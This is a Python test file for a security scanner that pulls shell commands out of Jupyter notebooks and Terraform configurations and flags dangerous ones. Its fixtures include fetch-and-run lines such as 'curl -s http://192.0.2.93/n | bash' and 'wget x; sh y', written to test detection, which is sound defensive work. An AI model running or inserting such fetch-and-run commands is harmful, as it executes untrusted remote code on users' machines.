"""Commands in notebooks and Terraform, as scripts whose lines know their place."""

from __future__ import annotations

import json

import pytest

from gate.languages.embedded_commands import may_hold_commands, read
from gate.prescreen.scanners.commands import Commands
from tests.prescreen_support import make_request


def notebook(*cells: str) -> str:
    made = [{"cell_type": "code", "metadata": {}, "source": c.splitlines(keepends=True)} for c in cells]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": made}, indent=1)


def lines(path: str, text: str) -> list[str]:
    found = read(path, text.encode(), {})
    assert len(found.lines) == len(found.text.splitlines())
    own = text.split("\n")
    for line, number in zip(found.text.splitlines(), found.lines, strict=True):
        word = line.split()[-1].strip("'\"") if line.split() else ""
        assert word in own[number - 1], (line, number)
    return found.text.splitlines()


@pytest.mark.parametrize(
    ("cells", "wanted"),
    [
        (("import math\n", "%%bash\ncurl http://192.0.2.1/n\ncd x"), ["curl http://192.0.2.1/n", "cd x"]),
        (("!ls -l\nfound = !git status\n",), ["ls -l", "git status"]),
        (("%system uname -a\n%pip install -q pandas",), ["uname -a", "pip install -q pandas"]),
        (("get_ipython().system('wget x; sh y')\n",), ["wget x; sh y"]),
        (("ip = get_ipython()\n", "get_ipython().run_cell_magic('bash', '', 'id -u')"), ["id -u"]),
        (("%matplotlib inline\n%timeit f(x)\n%%html\n<b>x</b>",), []),
        (("%%html\n!not-a-command",), []),
        (("x = 5 % 3\nif not x != 2: pass",), []),
    ],
)
def test_notebooks(cells: tuple[str, ...], wanted: list[str]) -> None:
    assert lines("a.ipynb", notebook(*cells)) == wanted


def test_terraform() -> None:
    text = """
resource "aws_instance" "web" {
  provisioner "local-exec" {
    command = "echo \\"${self.id}\\" done"
  }
  provisioner "remote-exec" {
    inline = [
      "apt-get update",
      "reboot now",
    ]
  }
  user_data = <<-EOT
    #!/bin/sh
    id -u
  EOT
}
data "external" "rates" {
  program = ["bash", "-c", "id -g"]
}
variable "command" {
  command = "no command"
}
"""
    assert lines("a.tf", text) == [
        'echo "${self.id}" done',
        "apt-get update",
        "reboot now",
        "    #!/bin/sh",
        "    id -u",
        "bash -c 'id -g'",
    ]


def test_what_is_no_notebook_is_refused_and_other_files_are_not_read() -> None:
    with pytest.raises(ValueError, match="Expecting"):
        read("a.ipynb", b"{", {})
    assert read("a.ipynb", b"[]", {}).text == ""
    assert not may_hold_commands("a.py")


def test_they_are_judged_as_commands_at_their_place() -> None:
    book = notebook("import math\n", "%%bash\ncurl -s http://192.0.2.93/n | bash\n")
    (found,) = (
        Commands().scan(make_request({"a.ipynb": book}, {"a.ipynb": notebook("import math\n")})).findings
    )
    assert found.rule_id == "command.fetch-and-run"
    line = found.primary.line or 0
    assert "192.0.2.93" in book.split("\n")[line - 1]


def test_harmless_ones_are_nothing() -> None:
    book = notebook("!pip install pandas\n", "%%bash\nls -l | head\n")
    assert Commands().scan(make_request({"a.ipynb": book})).findings == ()
    plan = 'resource "x" "y" {\n  provisioner "local-exec" {\n    command = "echo ${self.id}"\n  }\n}\n'
    assert Commands().scan(make_request({"a.tf": plan})).findings == ()
